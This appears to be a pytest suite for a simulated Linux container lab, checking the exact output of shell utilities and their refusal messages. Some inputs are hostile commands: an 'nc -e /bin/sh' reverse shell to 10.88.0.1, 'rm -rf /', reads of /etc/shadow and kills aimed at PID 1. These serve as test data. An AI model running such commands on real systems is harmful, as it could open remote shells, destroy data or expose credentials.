"""The programs: what they print, and that they refuse what they don't do in their own words."""

from __future__ import annotations

import pytest


@pytest.mark.parametrize(
    ("command", "printed"),
    [
        ("whoami; id; id -u app; id -Gn app; groups", "root\nuid=0(root) gid=0(root) groups=0(root)\n1000\napp\nroot"),
        ("ls -1 /var/spool; ls -d /etc; ls -A /root", "mail\n/etc\n.bashrc\n.profile\n.ssh"),
        ("ls -ld /tmp | cut -c1-10; ls -l /bin | sed 's/.*-> //'", "drwxrwxrwt\nusr/bin"),
        ("touch /tmp/x; ls -l /tmp/x | cut -d' ' -f1-5", "-rw-r--r-- 1 root root 0"),
        ("cd /tmp; touch b a; mkdir d; touch d/e; ls -R", ".:\na\nb\nd\n\n./d:\ne"),
        (
            "printf '1\\n2\\n3\\n' > /tmp/n; head -n 1 /tmp/n; tail -n 1 /tmp/n; wc -l /tmp/n; cat -n /tmp/n | tail -1",
            "1\n3\n3 /tmp/n\n     3\t3",
        ),
        (
            "printf 'a 1\\nb 2\\nc 3\\n' > /tmp/n; for op in == '>' '<' '>=' '<=' '!='; do "
            'awk "NR${op}2 {print NR, \\$1}" /tmp/n | tr "\\n" "|"; echo; done',
            "2 b|\n3 c|\n1 a|\n2 b|3 c|\n1 a|2 b|\n1 a|3 c|",
        ),
        (
            "export A=1 B=2; env -u A -u B sh -c 'echo [$A$B]'; env sh -c 'echo $A $1' x -u A; "
            "env - /bin/sh -c 'echo [$A]'",
            "[]\n1 -u\n[]",
        ),
        ("find /etc/pam.d -type f | sort | sed -n '1p;$p;$='", "/etc/pam.d/chfn\n/etc/pam.d/su-l\n16"),
        ("find / -maxdepth 1 -name 'et*' -o -maxdepth 1 -name opt | sort", "/etc\n/opt"),
        (
            "mkdir -p /tmp/q/r; touch /tmp/q/f; find /tmp/q -empty | sort; find /tmp/q -delete; ls /tmp",
            "/tmp/q/f\n/tmp/q/r",
        ),
        (
            "find /etc/pam.d -name su -exec wc -l {} \\;; find /etc/apt -name 'docker-*' -exec echo {} +",
            "5 /etc/pam.d/su\n/etc/apt/apt.conf.d/docker-clean /etc/apt/apt.conf.d/docker-no-languages",
        ),
        (
            "grep -c : /etc/group; grep -rl nobody /etc | sort; grep -in ROOT /etc/passwd | head -1",
            "31\n/etc/passwd\n/etc/passwd-\n/etc/shadow\n/etc/shadow-\n1:root:x:0:0:root:/root:/bin/bash",
        ),
        (
            "echo 'foo bar' | grep -o 'b.*'; echo ab | grep -E '^(a|b)+$';echo a.c | grep -F a.c; grep zz /etc/issue",
            "bar\nab\na.c",
        ),
        ("echo abc | egrep -v x; echo a+b | fgrep +", "abc\na+b"),
        (
            'cp /etc/passwd /tmp/p && s=$(sha256sum < /tmp/p) && [ "$s" = "$(sha256sum < /etc/passwd)" ] && echo same',
            "same",
        ),
        (
            "cp -r /etc/dpkg /tmp; ls /tmp/dpkg; cp /etc /tmp 2>&1",
            "dpkg.cfg\ndpkg.cfg.d\norigins\ncp: -r not specified; omitting directory '/etc'",
        ),
        ("echo 1 > /tmp/a; mv /tmp/a /tmp/b; mv /tmp/b /dev/shm; ls /tmp /dev/shm", "/dev/shm:\nb\n\n/tmp:"),
        (
            "mkdir /tmp/d; rm /tmp/d 2>&1; rmdir /tmp/d; rm -f /tmp/none; rm /tmp/none 2>&1",
            "rm: cannot remove '/tmp/d': Is a directory\nrm: cannot remove '/tmp/none': No such file or directory",
        ),
        ("rm -rf / 2>&1 | head -1", "rm: it is dangerous to operate recursively on '/'"),
        (
            "ln -s /etc/hostname /tmp/l; readlink /tmp/l; cat /tmp/l; ln /tmp/l /tmp/h; stat -c %h /tmp/h",
            "/etc/hostname\nweb-0\n2",
        ),
        (
            "touch /tmp/m; chmod 640 /tmp/m; stat -c %a /tmp/m; chmod u+x,o=r /tmp/m; stat -c '%a %A' /tmp/m",
            "640\n744 -rwxr--r--",
        ),
        (
            "touch /tmp/o; chown app:app /tmp/o; stat -c %U:%G /tmp/o; chown nobody /tmp/o; stat -c %U:%g /tmp/o",
            "app:app\nnobody:1000",
        ),
        ("env -i A=1 printenv; printenv HOME; env | grep -c HOSTNAME", "A=1\n/root\n1"),
        (
            "echo 'c a b' | tr ' ' '\\n' | sort; printf '3\\n10\\n' | sort -n; printf 'a\\na\\nb\\n' | uniq -c",
            "a\nb\nc\n3\n10\n      2 a\n      1 b",
        ),
        ("echo a:b:c | cut -d: -f2-; echo hello | cut -c1-2; echo hello | tr a-y b-z", "b:c\nhe\nifmmp"),
        (
            "echo hello | base64; echo aGVsbG8K | base64 -d; echo '!' | base64 -d 2>&1",
            "aGVsbG8K\nhello\nbase64: invalid input",
        ),
        (
            "printf abc | sha256sum; printf abc | md5sum",
            "ba7816bf8f01cfea414140de5dae2223b00361a396177a9cb410ff61f20015ad  -\n900150983cd24fb0d6963f7d28e17f72  -",
        ),
        (
            "echo hello | sed 's/l/L/g; s/h/H/'; printf 'a\\nb\\n' | sed -n 2p; printf 'a\\nb\\n' | sed '/a/d'",
            "HeLLo\nb\nb",
        ),
        ("echo 'a b c' | awk '{print $2, $NF}'; echo 'x:y' | awk -F: '{print $2}'", "b c\ny"),
        ("echo a b | xargs -n 1 echo -; printf 'x\\n' | xargs -I{} echo [{}]", "- a\n- b\n[x]"),
        ("which ls nothing sh; hostname; uname -m; uname -s", "/usr/bin/ls\n/usr/bin/sh\nweb-0\nx86_64\nLinux"),
        ("date -u -d @0 '+%Y-%m-%d %H:%M:%S'; date -d 2026-01-02 +%s", "1970-01-01 00:00:00\n1767312000"),
        ("echo x | tee /tmp/t; cat /tmp/t; echo y | tee -a /tmp/t > /dev/null; wc -l < /tmp/t", "x\nx\n2"),
        ("timeout 0.05 sleep 5; echo $?; timeout 5 true; echo $?", "124\n0"),
        ("echo secret > /tmp/s; shred -u /tmp/s; ls /tmp", ""),
        ("seq 3; seq -s, 2 2 6; basename /a/b.c .c; dirname /a/b", "1\n2\n3\n2,4,6\nb\n/a"),
        ("ps -o pid,comm | head -2; ps -ef | grep -c test-wait", "{}"),
        ("su app -c 'whoami; id -u'", "app\n1000"),
        (
            "dd if=/dev/zero of=/tmp/z bs=1K count=2 2>&1 | sed -n 's/,.*//;$p'; du -s /tmp | cut -f2;"
            "df / | tail -1 | cut -c1-7",
            "2048 bytes (2.0 kB\n/tmp\noverlay",
        ),
        ("dpkg -s bash | grep ^Version; apt list --installed 2>/dev/null | grep -c '/now'", "Version: 5.2.37-2+b5\n43"),
        (
            "expr 2 + 3 '*' 4; expr abc : 'a\\(.*\\)'; expr abc : b; expr length abc; expr b '>' a",
            "14\nbc\n0\n3\n1",
        ),
        (
            "seq 5 | sed -n '2,3p;$='; seq 3 | sed 'N;s/\\n/,/;P;D'; echo abc | sed -E 's/(.)(.)/\\2\\1/;y/c/d/'",
            "2\n3\n5\n1,2\n3\nbad",
        ),
        (
            "seq 4 | sed '1!G;h;$!d'; seq 3 | sed '2{s/2/x/;q}'; printf 'a\\n' | sed 'a\\\nb';"
            "seq 2 | sed = | sed 'N;s/\\n/ /'",
            "4\n3\n2\n1\n1\nx\na\nb\n1 1\n2 2",
        ),
        (
            "echo 'a1 b22' | grep -oE '[0-9]+'; echo foo-bar foobar | grep -ow foo;"
            "seq 9 | grep -A1 -B1 5 | tr -d '\\n'",
            "1\n22\nfoo\n456",
        ),
        ("printf abc | od -c; printf ab | od -An -tx1; seq 3 | paste -sd+; echo abcdef | fold -w4", "{}"),
        ("stat -c '%F %s' /etc/debian_version; file /bin/ls | cut -d, -f1; test -x /bin/ls; echo $?", "{}"),
        (
            "mktemp -d /tmp/x.XXXXXX | wc -c; truncate -s 5 /tmp/t5; wc -c < /tmp/t5; printf 'b\\na\\n' | tac",
            "14\n5\na\nb",
        ),
    ],
)
async def test_a_program_prints(pod, command, printed):
    result = await pod.sh(command)
    if printed == "{}":
        assert result.out.strip()
    else:
        assert result.out.rstrip("\n") == printed


@pytest.mark.parametrize(
    ("command", "code", "message"),
    [
        ("cat /nowhere", 1, "cat: /nowhere: No such file or directory"),
        ("cat /etc", 1, "cat: /etc: Is a directory"),
        ("ls --colour-me", 2, "ls: unrecognized option '--colour-me'"),
        ("ls -D", 2, "ls: option -D is not simulated in this lab"),
        ("ls --hyperlink", 2, "ls: option --hyperlink is not simulated in this lab"),
        ("ls -Y", 2, "ls: invalid option -- 'Y'"),
        ("stat -f /", 1, "stat: option -f is not simulated in this lab"),
        ("curl --resolve a:80:10.88.0.1 a", 2, "curl: option --resolve is not simulated in this lab"),
        ("curl --http1.1 x", 2, "curl: option --http1.1 is not simulated in this lab"),
        ("curl --no-silent x", 2, "curl: option --no-silent is not simulated in this lab"),
        ("curl --nope x", 2, "curl: option --nope: is unknown"),
        ("curl --max-time", 2, "curl: option --max-time: requires parameter"),
        ("curl -m soon x", 2, "curl: option -m: expected a proper numerical parameter"),
        ("curl -d @/nofile x", 26, "curl: Failed to open /nofile"),
        ("nc -X connect a 1", 1, "nc: option -X is not simulated in this lab"),
        ("grep", 2, "Usage: grep [OPTION]... PATTERNS [FILE]..."),
        ("find / -nope", 1, "find: unknown predicate `-nope'"),
        ("cp /etc/passwd", 1, "cp: missing destination file operand after '/etc/passwd'"),
        ("mkdir /tmp", 1, "mkdir: cannot create directory '/tmp': File exists"),
        ("mkdir /a/b", 1, "mkdir: cannot create directory '/a/b': No such file or directory"),
        ("rmdir /etc", 1, "rmdir: failed to remove '/etc': Directory not empty"),
        ("ln -s x /etc/passwd", 1, "ln: failed to create symbolic link '/etc/passwd': File exists"),
        ("chmod 999 /tmp", 1, "chmod: invalid mode: '999'"),
        ("chown nobody-here /tmp", 1, "chown: invalid user: 'nobody-here'"),
        ("id nobody-here", 1, "id: 'nobody-here': no such user"),
        ("kill 9999", 1, "sh: 1: kill: (9999) - No such process"),
        ("sleep x", 1, "sleep: invalid time interval 'x'"),
        ("awk 'BEGIN{'", 2, "awk: line 2: missing } near end of file"),
        ("nc -e /bin/sh 10.88.0.1 4444", 1, "nc: invalid option -- 'e'"),
        ("mount /dev/sda /mnt", 32, "mount: /mnt: permission denied."),
        ("apt-get install nmap", 100, "E: Unable to locate package nmap"),
        ("unshare -n true", 1, "unshare: unshare failed: Operation not permitted"),
        ("wget", 1, "wget: missing URL"),
        ("csplit x 1", 1, "csplit: embedded lab: the real image has csplit, the lab doesn't"),
        ("vim", 127, "sh: 1: vim: not found"),
        ("expr 1 / 0", 2, "expr: division by zero"),
        ("grep 'a\\{2' /etc/passwd", 2, "grep: Unmatched \\{"),
        ("sed k", 1, "sed: -e expression #1, char 1: unknown command: `k'"),
    ],
)
async def test_a_program_refuses(pod, command, code, message):
    result = await pod.sh(command)
    assert (result.code, result.err.splitlines()[0]) == (code, message)


async def test_a_copied_program_is_still_that_program(pod):
    assert (await pod.sh("cp /bin/echo /tmp/quiet; /tmp/quiet hello; ln -s /tmp/quiet /tmp/q; /tmp/q there")).out == (
        "hello\nthere\n"
    )


async def test_an_expression_made_to_be_slow_isnt(pod):
    slow = "aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa!"
    assert (
        await pod.sh(f"echo '{slow}' | grep -cE '^(a+)+$'; echo '{slow}' | sed -E 's/^(a+)+$/x/'")
    ).out == f"0\n{slow}\n"
    assert (
        await pod.sh("echo abab | grep -c '^\\(ab\\)\\1$'; echo 'a-b' | sed -E 's/(a)-(b)/\\2-\\1/'")
    ).out == "1\nb-a\n"


async def test_tail_follows_a_file(pod, shown):
    await pod.sh("echo one > /tmp/log")
    execution = pod.node.runtime.start_exec(pod.container, ["tail", "-f", "/tmp/log"], stdout=shown)
    await pod.sh("sleep 0.01; echo two >> /tmp/log; sleep 0.01")
    assert shown.text == "one\ntwo\n"
    execution.kill()
    assert await execution.wait() == 137


async def test_the_first_process_of_a_container_is_not_killed_from_inside(pod):
    assert (await pod.bash("sleep 9 & kill -9 1; kill -9 -1; kill -STOP 1; jobs; echo on")).out.endswith("on\n")
    assert (await pod.bash("kill -9 0; echo on")).code == 137
    assert pod.container.state == "running"
    assert (await pod.bash("pgrep sleep")).code == 1
